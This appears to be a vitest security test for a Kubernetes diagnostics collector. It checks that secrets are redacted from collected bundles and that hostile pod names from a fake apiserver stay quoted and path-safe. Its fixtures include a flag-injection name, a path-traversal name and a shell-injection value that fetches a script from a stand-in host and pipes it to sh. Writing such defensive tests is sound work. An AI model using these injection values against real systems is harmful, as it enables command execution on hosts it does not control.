/**
 * `collect` with the real kubectl: the redaction corpus served by `podmortem serve` from a bundle (0 leaks in any byte
 * of the collected bundle), and a stand-in apiserver that names pods and containers like an attacker would and
 * stalls a log past the timeout.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { collect, safeSegment } from '../../src/collect/collector.js';
import { COLLECT_DEFAULTS } from '../../src/collect/flags.js';
import { openBundleSource, readSnapshot } from '../../src/reader/index.js';
import { startServe } from '../../src/serve/index.js';
import { bundleFiles } from '../collect/bundle-files.js';
import { FakeApiServer, kubeconfigFor } from '../collect/fake-apiserver.js';
import { CORPUS, leaked, leaksByShape } from '../redact/corpus.js';
import { pod, podList, writeFolder } from '../reader/helpers.js';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'podmortem-security-collect-'));
  await mkdir(join(dir, 'home'));
});
afterAll(async () => rm(dir, { recursive: true, force: true }));

function collectOptions(kubeconfig: string, context: string | undefined, output: string, extra: { timeoutMs?: number } = {}) {
  return {
    kubectl: '/usr/bin/kubectl',
    kubeconfig,
    context,
    namespaces: ['shop'],
    allNamespaces: false,
    cwd: dir,
    force: false,
    redact: true,
    concurrency: COLLECT_DEFAULTS.concurrency,
    timeoutMs: extra.timeoutMs ?? 30_000,
    budget: COLLECT_DEFAULTS.budget,
    env: { PATH: process.env.PATH, HOME: join(dir, 'home') },
    signal: new AbortController().signal,
    now: new Date('2026-11-30T11:00:00Z'),
    output,
  };
}

describe('the redaction corpus through collect against podmortem serve', () => {
  it('leaks no planted value into any byte of the collected bundle', async () => {
    const api = pod('shop', 'api-1', [{ name: 'api', restartCount: 2, lastExit: 1 }]) as any;
    api.spec.containers[0].env = CORPUS.map((c, i) => (c.env ? { name: c.env, value: c.secret } : { name: `LINE_${i}`, value: c.text }));
    api.metadata.annotations = Object.fromEntries(CORPUS.map((c, i) => [`example.com/note-${i}`, c.text]));
    const source = join(dir, 'corpus-bundle');
    await writeFolder(source, {
      'cluster-resources/pods/shop.json': podList([api]),
      'cluster-resources/pods/logs/shop/api-1/api.log': `${CORPUS.map((c) => c.text).join('\n')}\n`,
      'cluster-resources/pods/logs/shop/api-1/api-previous.log': `${CORPUS.map((c) => c.text).join('\n')}\n`,
    });
    const snapshot = await readSnapshot(source);
    const files = await openBundleSource(source);
    const handle = await startServe([{ snapshot, files, close: () => files.close() }], { kubeconfigParent: dir });
    const output = join(dir, 'corpus-collected.tar.gz');
    try {
      await collect(collectOptions(handle.kubeconfigPath, handle.contexts[0]!.name, output));
    } finally {
      await handle.close();
    }
    const collected = await bundleFiles(output);
    const all = [...collected.values()].map((b) => b.toString('utf8')).join('\n');
    // The log came through (otherwise 0 leaks would prove nothing).
    expect(collected.get('cluster-resources/pods/logs/shop/api-1/api.log')?.toString()).toContain('<redacted:');
    const results = CORPUS.map((c) => ({ shape: c.shape, leaked: leaked(all, c.secret) }));
    const leaks = [...leaksByShape(results)].filter(([, v]) => v.leaked > 0).map(([shape, v]) => `${shape}: ${v.leaked}/${v.planted}`);
    console.log(`redaction corpus through collect: ${results.filter((r) => r.leaked).length} of ${results.length} leaked`);
    expect(leaks).toEqual([]);
  }, 120_000);
});

describe('collect against an apiserver that names things like an attacker', () => {
  const HOSTILE_PODS = ['--server=http://127.0.0.1:9', 'x;curl evil.example|sh;#', `long-${'a'.repeat(300)}`] as const;
  let release: () => void = () => {};

  it('keeps every name out of kubectl flags and out of paths, and keeps the head of a log that times out', async () => {
    const stalled = new Promise<void>((resolve) => (release = resolve));
    const cluster = {
      version: { major: '1', minor: '30', gitVersion: 'v1.30.4', platform: 'linux/amd64' },
      objects: {
        namespaces: [{ metadata: { name: 'shop' } }],
        pods: [
          ...HOSTILE_PODS.map((name) => pod('shop', name, [{ name: 'app' }])),
          pod('shop', 'slow-1', [{ name: '..' }]),
        ] as Array<Record<string, any>>,
      },
      logs: {
        ...Object.fromEntries(HOSTILE_PODS.map((name) => [`shop/${name}/app`, `log of ${name.slice(0, 20)}\n`])),
        'shop/slow-1/..': async function* () {
          yield 'FATAL: the head of a log that never ends\n';
          await stalled;
        },
      },
      forbidden: [],
    };
    const server = new FakeApiServer(cluster);
    const url = await server.start();
    const kubeconfig = join(dir, 'hostile.kubeconfig');
    await writeFile(kubeconfig, kubeconfigFor(url, 'shop'));
    const output = join(dir, 'hostile.tar.gz');
    try {
      const result = await collect(collectOptions(kubeconfig, undefined, output, { timeoutMs: 2000 }));
      const files = await bundleFiles(result.output);
      // A pod named like a flag stays a name: kubectl refuses the name; it never talks to the server in it.
      const flagLike = result.manifest.errors.find((e) => e.target.includes('--server='))!;
      expect(flagLike.command).toContain(`-- ${HOSTILE_PODS[0]}`);
      expect(flagLike.message).not.toMatch(/127\.0\.0\.1:9|connection refused/);
      // A name with shell syntax reaches the manifest's command as one quoted word.
      expect(result.manifest.errors.find((e) => e.target.includes('curl'))!.command).toContain(`-- 'x;curl evil.example|sh;#'`);
      // A name too long for a path segment: its log is there, under a hashed stand-in.
      const long = `cluster-resources/pods/logs/shop/${safeSegment(HOSTILE_PODS[2])}/app.log`;
      expect(files.get(long)?.toString(), long).toContain('log of long-aaaa');
      // No path of the bundle has an unsafe segment.
      for (const path of files.keys()) expect(path.split('/').every((seg) => seg !== '..' && seg !== '' && Buffer.byteLength(seg) <= 200), path).toBe(true);
      expect(safeSegment(HOSTILE_PODS[2])).toMatch(/^long-a+~[0-9a-f]{12}$/);
      // The stalled log: the error is recorded and the head that arrived is kept.
      const slow = `cluster-resources/pods/logs/shop/slow-1/${safeSegment('..')}.log`;
      expect(files.get(slow)?.toString()).toContain('FATAL: the head of a log that never ends');
      expect(result.manifest.errors.find((e) => e.target === 'logs/shop/slow-1/..')?.message).toMatch(/timed out.*bytes received before that were kept/);
    } finally {
      release();
      await server.stop();
    }
  }, 120_000);

  it('makes a safe path segment of every name, and leaves Kubernetes names alone', () => {
    for (const name of ['api-7c9d8f-x2k4q', 'kube-system', 'app_1.v2']) expect(safeSegment(name)).toBe(name);
    for (const name of ['..', '.', '', 'a/b', 'a//b', 'x\0y', 'a'.repeat(128 * 1024), 'line\nbreak']) {
      const segment = safeSegment(name);
      expect(segment).not.toMatch(/^\.\.?$|[/\\\0\n]/);
      expect(Buffer.byteLength(segment)).toBeLessThanOrEqual(200);
    }
    expect(safeSegment('a/b')).not.toBe(safeSegment('a_b'));
  });
});
